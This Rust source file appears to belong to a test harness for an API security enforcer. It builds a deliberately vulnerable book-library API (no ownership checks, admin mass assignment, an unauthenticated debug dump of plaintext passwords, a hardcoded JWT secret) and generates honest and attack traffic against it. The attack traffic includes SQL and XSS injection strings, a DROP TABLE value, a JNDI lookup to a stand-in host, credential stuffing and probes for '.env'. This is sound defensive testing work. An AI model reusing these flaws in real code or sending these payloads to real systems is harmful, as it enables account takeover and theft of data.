//! A simulated API of another style than the bank: a library of books and users keyed by
//! readable names (`/books/v1/{title}`, `/users/v1/{username}`, `/users/v1/me`), bearer JWTs
//! (HS256, `sub` = the username), failures answered with 200 and an error body
//! (`{"status":"fail","message":...}`), an unauthenticated debug endpoint that dumps every user
//! (`/users/v1/_debug`, which honest clients never call) and a rare but legitimate password
//! change, and the reviews of a book (`GET /books/v1/{title}/reviews`) that a release adds once
//! the enforcer's model is mature. Like many real apps it checks no ownership (any user's e-mail or password can be
//! changed, any book's secret read), applies every registration field (`admin`), and validates
//! no format.
//!
//! The journeys: honest readers (some signing up first, some returning in the mixed phase after
//! a session while the model learned; a few change their password, fewer times during learning
//! than any inventory threshold; after the release some go on from a book to its reviews) and
//! one generator per attack kind.

use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, Ordering};

use jsonwebtoken::{DecodingKey, EncodingKey, Header, Validation};
use parking_lot::Mutex;
use rand::seq::{IndexedRandom as _, SliceRandom as _};
use rand::{RngExt as _, SeedableRng as _};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::app::{App, AppRequest, AppResponse};
use super::journeys::{AttackKind, Step, Tail};
use super::styles::{self, Addresses, Plan, Sizes};

/// HS256 secret the library signs its tokens with.
pub const TOKEN_SECRET: &str = "ordo-simulator-library-secret";

/// The attack kinds simulated on the library, in report order.
pub const ATTACKS: [AttackKind; 15] = [
    AttackKind::SkippedSteps,
    AttackKind::ReplayedTransfer,
    AttackKind::TamperedTransfer,
    AttackKind::AccountEnumeration,
    AttackKind::PhoneEnumeration,
    AttackKind::Scraping,
    AttackKind::CredentialStuffing,
    AttackKind::StuffingCampaign,
    AttackKind::ShadowProbing,
    AttackKind::DebugEndpoint,
    AttackKind::MassAssignment,
    AttackKind::Injection,
    AttackKind::ForeignIdentity,
    AttackKind::FormatBreak,
    AttackKind::PathChange,
];

/// What each attack kind is on the library.
pub fn label(kind: AttackKind) -> &'static str {
    match kind {
        AttackKind::SkippedSteps => "e-mail change without reading the profile (skipped steps)",
        AttackKind::ReplayedTransfer => "replayed book creation",
        AttackKind::TamperedTransfer => "tampered book creation",
        AttackKind::AccountEnumeration => "user enumeration by name (BOLA)",
        AttackKind::PhoneEnumeration => "book-title guessing",
        AttackKind::Scraping => "catalogue scraping",
        AttackKind::CredentialStuffing => "credential stuffing (one address)",
        AttackKind::StuffingCampaign => "stuffing campaign (1-2 tries per address)",
        AttackKind::ShadowProbing => "shadow endpoint probing",
        AttackKind::DebugEndpoint => "debug endpoint dump",
        AttackKind::MassAssignment => "mass assignment (admin at sign-up)",
        AttackKind::Injection => "injection",
        AttackKind::ForeignIdentity => "password change of another user (BOLA)",
        AttackKind::FormatBreak => "format-breaking value",
        AttackKind::PathChange => "path change after being caught",
        other => other.name(),
    }
}

const FIRST: [&str; 24] = [
    "maria", "jonas", "lea", "felix", "sofia", "noah", "emma", "liam", "hanna", "paul", "mila",
    "ben", "clara", "elias", "ida", "henry", "lina", "oskar", "nora", "theo", "greta", "anton",
    "frieda", "karl",
];
const LAST: [&str; 24] = [
    "keller", "wagner", "becker", "hoffmann", "schulz", "koch", "richter", "klein", "wolf",
    "neumann", "schwarz", "braun", "zimmer", "krueger", "hartmann", "lange", "werner", "krause",
    "meier", "lehmann", "huber", "kaiser", "fuchs", "peters",
];
const ADJECTIVES: [&str; 20] = [
    "silent", "golden", "hidden", "broken", "quiet", "crimson", "distant", "frozen", "lonely",
    "secret", "ancient", "burning", "restless", "velvet", "hollow", "wild", "gentle", "bitter",
    "northern", "last",
];
const NOUNS: [&str; 20] = [
    "river", "harbour", "garden", "mountain", "letter", "forest", "orchard", "lantern", "island",
    "winter", "station", "mirror", "kingdom", "compass", "meadow", "bridge", "tide", "archive",
    "summer", "voyage",
];

fn username(i: usize) -> String {
    let base = format!("{}.{}", FIRST[i % 24], LAST[(i / 24) % 24]);
    match i / (24 * 24) {
        0 => base,
        n => format!("{base}{n}"),
    }
}

fn book_title(i: usize) -> String {
    let base = format!("{}-{}", ADJECTIVES[i % 20], NOUNS[(i / 20) % 20]);
    match i / 400 {
        0 => base,
        n => format!("{base}-{}", n + 1),
    }
}

/// One reader of the simulated world.
#[derive(Debug, Clone)]
pub struct Reader {
    pub name: String,
    pub password: String,
    pub email: String,
    /// Registered when the app starts (otherwise the reader signs up in a journey).
    pub registered: bool,
    pub books: Vec<String>,
}

/// The readers and books the journeys are drawn from (and the app starts with).
#[derive(Debug, Clone)]
pub struct World {
    pub readers: Vec<Reader>,
    /// Books the app starts with: title, owner, listed in this order.
    pub catalogue: Vec<(String, String)>,
    next_book: usize,
}

/// Books on one page of `GET /books/v1`.
pub const PAGE_SIZE: usize = 10;

impl World {
    pub fn generate(readers: usize, signups: &[usize]) -> Self {
        let mut readers: Vec<Reader> = (0..readers)
            .map(|i| {
                let name = username(i);
                Reader {
                    password: styles::password(i),
                    email: format!("{name}@mail.example.org"),
                    name,
                    registered: true,
                    books: Vec::new(),
                }
            })
            .collect();
        for &i in signups {
            if let Some(r) = readers.get_mut(i) {
                r.registered = false;
            }
        }
        let owners: Vec<usize> = (0..readers.len())
            .filter(|i| readers[*i].registered)
            .collect();
        let catalogue: Vec<(String, String)> = (0..250.min(owners.len()))
            .map(|k| {
                let owner = owners[(k * 37) % owners.len()];
                let title = book_title(k);
                readers[owner].books.push(title.clone());
                (title, readers[owner].name.clone())
            })
            .collect();
        let next_book = catalogue.len();
        Self {
            readers,
            catalogue,
            next_book,
        }
    }

    fn new_title(&mut self) -> String {
        self.next_book += 1;
        book_title(self.next_book - 1)
    }
}

#[derive(Debug, Serialize, Deserialize)]
struct Claims {
    sub: String,
    exp: u64,
}

#[derive(Debug, Clone)]
struct Account {
    password: String,
    email: String,
    admin: bool,
}

#[derive(Debug, Clone)]
struct Book {
    title: String,
    owner: String,
    secret: String,
}

struct Data {
    users: HashMap<String, Account>,
    /// Insertion order (the listing's order).
    user_order: Vec<String>,
    books: Vec<Book>,
    book_index: HashMap<String, usize>,
}

/// The library app.
pub struct Library {
    data: Mutex<Data>,
    /// The release that adds the reviews of a book is out.
    released: AtomicBool,
    encoding: EncodingKey,
    decoding: DecodingKey,
}

fn fail(message: &str) -> AppResponse {
    AppResponse::failed(200, json!({ "status": "fail", "message": message }))
}

impl Library {
    pub fn new(world: &World) -> Self {
        let registered: Vec<&Reader> = world.readers.iter().filter(|r| r.registered).collect();
        let users = registered
            .iter()
            .map(|r| {
                (
                    r.name.clone(),
                    Account {
                        password: r.password.clone(),
                        email: r.email.clone(),
                        admin: false,
                    },
                )
            })
            .collect();
        let books: Vec<Book> = world
            .catalogue
            .iter()
            .map(|(title, owner)| Book {
                title: title.clone(),
                owner: owner.clone(),
                secret: format!("shelf {} row {}", title.len(), owner.len()),
            })
            .collect();
        let book_index = books
            .iter()
            .enumerate()
            .map(|(i, b)| (b.title.clone(), i))
            .collect();
        Self {
            data: Mutex::new(Data {
                users,
                user_order: registered.iter().map(|r| r.name.clone()).collect(),
                books,
                book_index,
            }),
            released: AtomicBool::new(false),
            encoding: EncodingKey::from_secret(TOKEN_SECRET.as_bytes()),
            decoding: DecodingKey::from_secret(TOKEN_SECRET.as_bytes()),
        }
    }

    /// A user's password as stored (to see whether a takeover took effect).
    pub fn password(&self, user: &str) -> Option<String> {
        self.data.lock().users.get(user).map(|a| a.password.clone())
    }

    /// Whether a user is stored as an admin (to see whether a mass assignment took effect).
    pub fn is_admin(&self, user: &str) -> bool {
        self.data.lock().users.get(user).is_some_and(|a| a.admin)
    }

    fn subject(&self, request: &AppRequest) -> Option<String> {
        let data = jsonwebtoken::decode::<Claims>(
            request.bearer()?,
            &self.decoding,
            &Validation::new(jsonwebtoken::Algorithm::HS256),
        )
        .ok()?;
        Some(data.claims.sub)
    }
}

impl App for Library {
    fn release(&self) {
        self.released.store(true, Ordering::Relaxed);
    }

    fn handle(&self, request: &AppRequest) -> AppResponse {
        let segments = request.segments();
        let segments: Vec<&str> = segments.iter().map(String::as_str).collect();
        let body = request.json().unwrap_or(Value::Null);
        let text = |key: &str| body[key].as_str().map(str::to_owned);
        let method = &request.method;
        match (method, segments.as_slice()) {
            (&http::Method::POST, ["users", "v1", "register"]) => {
                let (Some(name), Some(password), Some(email)) =
                    (text("username"), text("password"), text("email"))
                else {
                    return fail("Username, password and email are required.");
                };
                let mut data = self.data.lock();
                if data.users.contains_key(&name) {
                    return fail("User already exists. Please Log in.");
                }
                // Every field of the body is applied (mass assignment: `admin`).
                let admin = body["admin"].as_bool().unwrap_or(false);
                data.users.insert(
                    name.clone(),
                    Account {
                        password,
                        email,
                        admin,
                    },
                );
                data.user_order.push(name);
                return AppResponse::ok(
                    200,
                    json!({ "status": "success", "message": "Successfully registered. Login to receive an auth token." }),
                );
            }
            (&http::Method::POST, ["users", "v1", "login"]) => {
                let name = text("username").unwrap_or_default();
                let password = text("password").unwrap_or_default();
                let data = self.data.lock();
                return match data.users.get(&name) {
                    None => fail("Username does not exist"),
                    Some(a) if a.password != password => {
                        fail("Password is not correct for the given username.")
                    }
                    Some(_) => {
                        let claims = Claims {
                            sub: name,
                            exp: styles::now_secs() + 3600,
                        };
                        match jsonwebtoken::encode(&Header::default(), &claims, &self.encoding) {
                            Ok(token) => AppResponse::ok(
                                200,
                                json!({ "auth_token": token, "status": "success", "message": "Successfully logged in." }),
                            ),
                            Err(_) => AppResponse::failed(500, json!({ "status": "fail" })),
                        }
                    }
                };
            }
            // The debug dump: no authentication, every user with its password.
            (&http::Method::GET, ["users", "v1", "_debug"]) => {
                let data = self.data.lock();
                let users: Vec<Value> = data
                    .user_order
                    .iter()
                    .filter_map(|n| data.users.get(n).map(|a| (n, a)))
                    .map(|(n, a)| json!({ "username": n, "password": a.password, "email": a.email, "admin": a.admin }))
                    .collect();
                return AppResponse::ok(200, json!({ "users": users }));
            }
            (&http::Method::GET, ["books", "v1"]) => {
                let page: usize = request
                    .query_value("page")
                    .and_then(|p| p.parse().ok())
                    .unwrap_or(1)
                    .max(1);
                let data = self.data.lock();
                let books: Vec<Value> = data
                    .books
                    .iter()
                    .skip((page - 1) * PAGE_SIZE)
                    .take(PAGE_SIZE)
                    .map(|b| json!({ "book_title": b.title, "user": b.owner }))
                    .collect();
                return AppResponse::ok(200, json!({ "Books": books, "page": page }));
            }
            _ => {}
        }
        let Some(me) = self.subject(request) else {
            return AppResponse::failed(
                401,
                json!({ "status": "fail", "message": "Invalid token. Please log in again." }),
            );
        };
        let mut data = self.data.lock();
        match (method, segments.as_slice()) {
            (&http::Method::GET, ["users", "v1", "me"]) => match data.users.get(&me) {
                Some(a) => AppResponse::ok(200, json!({ "username": me, "email": a.email })),
                None => fail("User not found"),
            },
            // No ownership checks below (BOLA).
            (&http::Method::GET, ["users", "v1", name]) => match data.users.get(*name) {
                Some(a) => AppResponse::ok(200, json!({ "username": name, "email": a.email })),
                None => fail("User not found"),
            },
            (&http::Method::PUT, ["users", "v1", name, "email"]) => {
                let Some(email) = text("email") else {
                    return fail("An email is required.");
                };
                match data.users.get_mut(*name) {
                    Some(a) => {
                        a.email = email;
                        AppResponse::ok(
                            200,
                            json!({ "status": "success", "message": "Email updated." }),
                        )
                    }
                    None => fail("User not found"),
                }
            }
            (&http::Method::PUT, ["users", "v1", name, "password"]) => {
                let Some(password) = text("password") else {
                    return fail("A password is required.");
                };
                match data.users.get_mut(*name) {
                    Some(a) => {
                        a.password = password;
                        AppResponse::ok(
                            200,
                            json!({ "status": "success", "message": "Password updated." }),
                        )
                    }
                    None => fail("User not found"),
                }
            }
            (&http::Method::GET, ["books", "v1", title]) => match data.book_index.get(*title) {
                Some(&i) => {
                    let b = &data.books[i];
                    AppResponse::ok(
                        200,
                        json!({ "book_title": b.title, "owner": b.owner, "secret": b.secret }),
                    )
                }
                None => fail("Book not found!"),
            },
            (&http::Method::GET, ["books", "v1", title, "reviews"])
                if self.released.load(Ordering::Relaxed) =>
            {
                match data.book_index.get(*title) {
                    Some(&i) => AppResponse::ok(
                        200,
                        json!({ "book_title": data.books[i].title, "reviews": [ { "stars": 1 + i % 5, "text": "A good read." } ] }),
                    ),
                    None => fail("Book not found!"),
                }
            }
            (&http::Method::POST, ["books", "v1"]) => {
                let (Some(title), Some(secret)) = (text("book_title"), text("secret")) else {
                    return fail("book_title and secret are required.");
                };
                if data.book_index.contains_key(&title) {
                    return fail("Book Already exists!");
                }
                let index = data.books.len();
                data.books.push(Book {
                    title: title.clone(),
                    owner: me,
                    secret,
                });
                data.book_index.insert(title, index);
                AppResponse::ok(
                    200,
                    json!({ "status": "success", "message": "Book has been added." }),
                )
            }
            _ => AppResponse::failed(
                404,
                json!({ "status": "fail", "message": "The requested URL was not found on the server." }),
            ),
        }
    }
}

fn register(r: &Reader, extra: Option<(&str, Value)>) -> Step {
    let mut body = json!({ "username": r.name, "password": r.password, "email": r.email });
    if let Some((k, v)) = extra {
        body[k] = v;
    }
    styles::anonymous(http::Method::POST, "/users/v1/register", Some(body))
}

fn login(name: &str, password: &str) -> Step {
    styles::anonymous(
        http::Method::POST,
        "/users/v1/login",
        Some(json!({ "username": name, "password": password })),
    )
}

fn get(path: impl Into<String>) -> Step {
    styles::step(http::Method::GET, path, None)
}

fn books_page(page: usize) -> Step {
    styles::anonymous(http::Method::GET, format!("/books/v1?page={page}"), None)
}

fn book(title: &str) -> Step {
    get(format!("/books/v1/{}", styles::encode_path(title)))
}

/// A book's reviews (the operation the release adds), marked as the long tail's.
fn reviews(title: &str) -> Step {
    let mut s = get(format!("/books/v1/{}/reviews", styles::encode_path(title)));
    s.tail = Tail::Released;
    s
}

fn user(name: &str) -> Step {
    get(format!("/users/v1/{}", styles::encode_path(name)))
}

fn put_email(name: &str, email: &str) -> Step {
    styles::step(
        http::Method::PUT,
        format!("/users/v1/{}/email", styles::encode_path(name)),
        Some(json!({ "email": email })),
    )
}

fn put_password(name: &str, password: &str) -> Step {
    styles::step(
        http::Method::PUT,
        format!("/users/v1/{}/password", styles::encode_path(name)),
        Some(json!({ "password": password })),
    )
}

fn add_book(title: &str, secret: &str) -> Step {
    styles::step(
        http::Method::POST,
        "/books/v1",
        Some(json!({ "book_title": title, "secret": secret })),
    )
}

/// Share of book views after the release that go on to the book's reviews.
const RELEASED_SHARE: f64 = 0.3;

/// One honest session of reader `i`; `rare` adds the password change; with `released` (its
/// own random stream, so that the sessions stay as they were without the release) book views
/// go on to the reviews a release added.
fn benign(
    rng: &mut ChaCha8Rng,
    world: &mut World,
    i: usize,
    rare: bool,
    mut released: Option<&mut ChaCha8Rng>,
) -> Vec<Step> {
    let mut steps = Vec::new();
    if !world.readers[i].registered {
        steps.push(register(&world.readers[i], None));
        world.readers[i].registered = true;
    }
    let me = world.readers[i].clone();
    if rng.random_bool(0.04) {
        steps.push(login(&me.name, "wrong-password"));
    }
    steps.push(login(&me.name, &me.password));
    let tasks = styles::tasks_per_visit(rng);
    let rare_at = rare.then(|| rng.random_range(0..tasks));
    for t in 0..tasks {
        let mut task = Vec::new();
        if rare_at == Some(t) {
            let password = format!("{}-new-{}", me.password, rng.random_range(100..999));
            task.push(get("/users/v1/me"));
            let mut change = put_password(&me.name, &password);
            change.tail = Tail::Rare;
            task.push(change);
            task.push(login(&me.name, &password));
            world.readers[i].password = password;
        } else {
            match rng.random_range(0..100) {
                // Browse the catalogue, read a few books, sometimes look up an owner.
                0..=44 => {
                    let page = styles::page(rng);
                    task.push(books_page(page));
                    let listed: Vec<&(String, String)> = world
                        .catalogue
                        .iter()
                        .skip((page - 1) * PAGE_SIZE)
                        .take(PAGE_SIZE)
                        .collect();
                    for _ in 0..rng.random_range(1..=3) {
                        if let Some((title, owner)) = listed.choose(rng) {
                            task.push(book(title));
                            if let Some(r) = released.as_deref_mut()
                                && r.random_bool(RELEASED_SHARE)
                            {
                                task.push(reviews(title));
                            }
                            if rng.random_bool(0.25) {
                                task.push(user(owner));
                            }
                        }
                    }
                }
                // The own profile.
                45..=64 => {
                    task.push(get("/users/v1/me"));
                    if rng.random_bool(0.4) {
                        task.push(user(&me.name));
                    }
                }
                // Change the e-mail address.
                65..=72 => {
                    task.push(get("/users/v1/me"));
                    let email = format!("{}.{}@post.example.net", me.name, rng.random_range(1..99));
                    task.push(put_email(&me.name, &email));
                }
                // Add a book, then open it.
                73..=84 => {
                    let title = world.new_title();
                    task.push(books_page(1));
                    task.push(add_book(&title, "first edition, signed"));
                    task.push(book(&title));
                    world.readers[i].books.push(title);
                }
                // Open one of the own books (a title learned long ago or just added).
                _ => {
                    task.push(get("/users/v1/me"));
                    if let Some(title) = world.readers[i].books.clone().choose(rng) {
                        task.push(book(title));
                    } else {
                        task.push(books_page(1));
                    }
                }
            }
        }
        if t > 0
            && let Some(first) = task.first_mut()
        {
            first.think_ms = styles::pause(rng);
        }
        steps.extend(task);
    }
    steps
}

fn harmful(mut s: Step) -> Step {
    s.harmful = true;
    s
}

fn others(rng: &mut ChaCha8Rng, world: &World, me: usize, count: usize) -> Vec<String> {
    let mut names: Vec<&Reader> = world
        .readers
        .iter()
        .enumerate()
        .filter(|(k, r)| *k != me && r.registered)
        .map(|(_, r)| r)
        .collect();
    names.shuffle(rng);
    names
        .into_iter()
        .take(count)
        .map(|r| r.name.clone())
        .collect()
}

/// One attack session of `kind` by reader `i` (registered unless the kind signs up); `shown`
/// is the stream of the foreign password changes' victims named by an answer.
fn attack(
    rng: &mut ChaCha8Rng,
    shown: &mut ChaCha8Rng,
    world: &mut World,
    i: usize,
    kind: AttackKind,
) -> Vec<Step> {
    let me = world.readers[i].clone();
    let mut steps = vec![login(&me.name, &me.password)];
    match kind {
        AttackKind::SkippedSteps => {
            steps.push(harmful(put_email(&me.name, "takeover@relay.example.com")));
        }
        AttackKind::ReplayedTransfer => {
            steps.push(books_page(1));
            let title = world.new_title();
            for _ in 0..4 {
                steps.push(harmful(add_book(&title, "first edition, signed")));
            }
        }
        AttackKind::TamperedTransfer => {
            steps.push(books_page(1));
            let title = world.new_title();
            let body = match rng.random_range(0..3) {
                0 => json!({ "book_title": title, "secret": "x", "owner": "maria.keller" }),
                1 => json!({ "book_title": title, "secret": 1_234_567 }),
                _ => json!({ "book_title": title, "secret": "x", "isAdmin": true }),
            };
            steps.push(harmful(styles::step(
                http::Method::POST,
                "/books/v1",
                Some(body),
            )));
        }
        AttackKind::AccountEnumeration => {
            steps.push(get("/users/v1/me"));
            for name in others(rng, world, i, 40) {
                steps.push(harmful(user(&name)));
            }
        }
        AttackKind::PhoneEnumeration => {
            steps.push(books_page(1));
            for k in 0..40 {
                // Half the guesses exist (deep in the catalogue), half do not.
                let title = book_title(if k % 2 == 0 { 40 + k * 5 } else { 3000 + k });
                steps.push(harmful(book(&title)));
            }
        }
        AttackKind::Scraping => {
            for page in 1..=60 {
                let s = books_page(page);
                steps.push(if page > 10 { harmful(s) } else { s });
            }
        }
        AttackKind::CredentialStuffing => {
            steps.clear();
            for name in others(rng, world, i, 40) {
                steps.push(harmful(login(&name, "Summer2024!")));
            }
        }
        AttackKind::ShadowProbing => {
            steps.push(books_page(1));
            for path in [
                "/admin",
                "/users/v2/_debug",
                "/books/v1/export/all",
                "/api/v1/users",
                "/.env",
                "/users/v1/_internal/config",
                "/console",
                "/books/v2",
            ] {
                steps.push(harmful(get(path)));
            }
        }
        AttackKind::DebugEndpoint => {
            steps.clear();
            steps.push(books_page(1));
            steps.push(harmful(styles::anonymous(
                http::Method::GET,
                "/users/v1/_debug",
                None,
            )));
            steps.push(harmful(styles::anonymous(
                http::Method::GET,
                "/users/v1/_debug",
                None,
            )));
        }
        AttackKind::MassAssignment => {
            // A fresh sign-up that makes itself an admin.
            steps.clear();
            let mut fresh = me.clone();
            fresh.name = format!("{}.x{}", me.name, rng.random_range(10..99));
            steps.push(harmful(register(&fresh, Some(("admin", json!(true))))));
            steps.push(login(&fresh.name, &fresh.password));
            steps.push(get("/users/v1/me"));
        }
        AttackKind::Injection => {
            steps.push(get("/users/v1/me"));
            let s = match rng.random_range(0..4) {
                0 => user("' OR '1'='1' --"),
                1 => book("<script>alert(document.cookie)</script>"),
                2 => put_email(&me.name, "x@y.example'; DROP TABLE users; --"),
                _ => book("${jndi:ldap://x.example/a}"),
            };
            steps.push(harmful(s));
        }
        AttackKind::ForeignIdentity => {
            steps.push(get("/users/v1/me"));
            // Half the attackers pick someone no answer showed them; the others the owner of a
            // book they opened (sometimes looking the owner up first, as honest readers do): a
            // name an earlier answer gave, though no honest reader changes anyone's but his
            // own. Chosen from their own random stream (`shown`), so that every other journey
            // stays as it was without them.
            let unshown = others(rng, world, i, 1).pop().unwrap_or_default();
            let chosen = if shown.random_bool(0.5) {
                let page = styles::page(shown);
                let listed: Vec<&(String, String)> = world
                    .catalogue
                    .iter()
                    .skip((page - 1) * PAGE_SIZE)
                    .take(PAGE_SIZE)
                    .filter(|(_, owner)| *owner != me.name)
                    .collect();
                listed
                    .choose(shown)
                    .map(|(title, owner)| (page, title.clone(), owner.clone()))
            } else {
                None
            };
            let victim = match chosen {
                Some((page, title, owner)) => {
                    steps.push(books_page(page));
                    steps.push(book(&title));
                    if shown.random_bool(0.5) {
                        steps.push(user(&owner));
                    }
                    owner
                }
                None => unshown,
            };
            let mut s = harmful(put_password(&victim, "owned-by-me-2024"));
            s.think_ms = 30;
            steps.push(s);
            steps.push(login(&victim, "owned-by-me-2024"));
        }
        AttackKind::FormatBreak => {
            steps.push(get("/users/v1/me"));
            let s = match rng.random_range(0..3) {
                0 => put_email(&me.name, &format!("{}.mail.example.org", me.name)),
                1 => user(&"a".repeat(5000)),
                _ => add_book(&"b".repeat(5000), "x"),
            };
            steps.push(harmful(s));
        }
        AttackKind::PathChange => {
            // Enumerates users until (perhaps) caught, then switches to e-mail takeovers and
            // the debug dump.
            steps.push(get("/users/v1/me"));
            let names = others(rng, world, i, 36);
            for name in &names[..30.min(names.len())] {
                steps.push(harmful(user(name)));
            }
            for name in names.iter().skip(30) {
                steps.push(harmful(put_email(name, "takeover@relay.example.com")));
            }
            steps.push(harmful(get("/users/v1/_debug")));
        }
        _ => {}
    }
    steps
}

/// The library's journeys: `sizes.learning` honest sessions (two of them change a password),
/// then the mixed phase: honest sessions of returning and new readers (3% change a password;
/// after the release, 30% of book views go on to the book's reviews)
/// and `sizes.attacks_per_kind` sessions of every kind in [`ATTACKS`] (each stuffing campaign
/// tries 8 names, 1–2 per address, one session per address; about half the foreign password
/// changes are of a book's owner the session was shown), shuffled.
pub fn plan(seed: u64, sizes: &Sizes) -> (World, Plan) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut release_rng = ChaCha8Rng::seed_from_u64(seed ^ 0x7a11_7a11);
    let mut shown_rng = ChaCha8Rng::seed_from_u64(seed ^ 0x5407_5407);
    let returning_count = (sizes.benign / 2).min(sizes.learning);
    let new_count = sizes.benign - returning_count;
    let attack_users = sizes.attacks_per_kind * ATTACKS.len() + 2;
    let total = sizes.learning + new_count + attack_users + 60;
    // One in five readers of the learning and new groups signs up in their first session.
    let signups: Vec<usize> = (0..sizes.learning + new_count)
        .filter(|k| k % 5 == 2)
        .collect();
    let mut world = World::generate(total, &signups);
    let started = world.clone();
    let mut addresses = Addresses::default();
    let mut plan = Plan::default();

    let rare_learning = styles::rare_learning_sessions(sizes.learning);
    for i in 0..sizes.learning {
        let steps = benign(&mut rng, &mut world, i, rare_learning.contains(&i), None);
        plan.learning.push(addresses.benign(steps, &mut rng));
    }
    let mut returning: Vec<usize> = (0..sizes.learning).collect();
    returning.shuffle(&mut rng);
    returning.truncate(returning_count);
    let mut mixed = Vec::new();
    for i in returning {
        let rare = rng.random_bool(styles::RARE_SHARE);
        let steps = benign(&mut rng, &mut world, i, rare, Some(&mut release_rng));
        let j = addresses.benign(steps, &mut rng);
        plan.returning.insert(j.client);
        mixed.push(j);
    }
    for k in 0..new_count {
        let rare = rng.random_bool(styles::RARE_SHARE);
        let steps = benign(
            &mut rng,
            &mut world,
            sizes.learning + k,
            rare,
            Some(&mut release_rng),
        );
        mixed.push(addresses.benign(steps, &mut rng));
    }
    let mut attacker = sizes.learning + new_count;
    for kind in ATTACKS {
        for _ in 0..sizes.attacks_per_kind {
            if kind == AttackKind::StuffingCampaign {
                let names = others(&mut rng, &world, usize::MAX, 4 * 2);
                mixed.extend(addresses.campaign(&names, &mut rng, |name, rng| {
                    harmful(login(name, styles::leaked_password(rng)))
                }));
                continue;
            }
            let steps = attack(&mut rng, &mut shown_rng, &mut world, attacker, kind);
            attacker += 1;
            mixed.push(addresses.attack(kind, steps, &mut rng));
        }
    }
    mixed.shuffle(&mut rng);
    plan.mixed = mixed;
    (started, plan)
}

/// The enforcer config of the library's evaluation: sessions keyed by the verified token's
/// `sub`, then the client address; every learned detector blocks.
pub fn enforcer_yaml(upstream: std::net::SocketAddr, mode: &str) -> String {
    styles::enforcer_yaml(
        upstream,
        mode,
        &format!(
            r#"  identifiers:
    - jwtClaim: {{ claim: sub }}
    - clientIp: {{}}
  jwtVerification:
    keys:
      - algorithm: HS256
        secret: {TOKEN_SECRET}
    onInvalid: FallThrough"#
        ),
    )
}
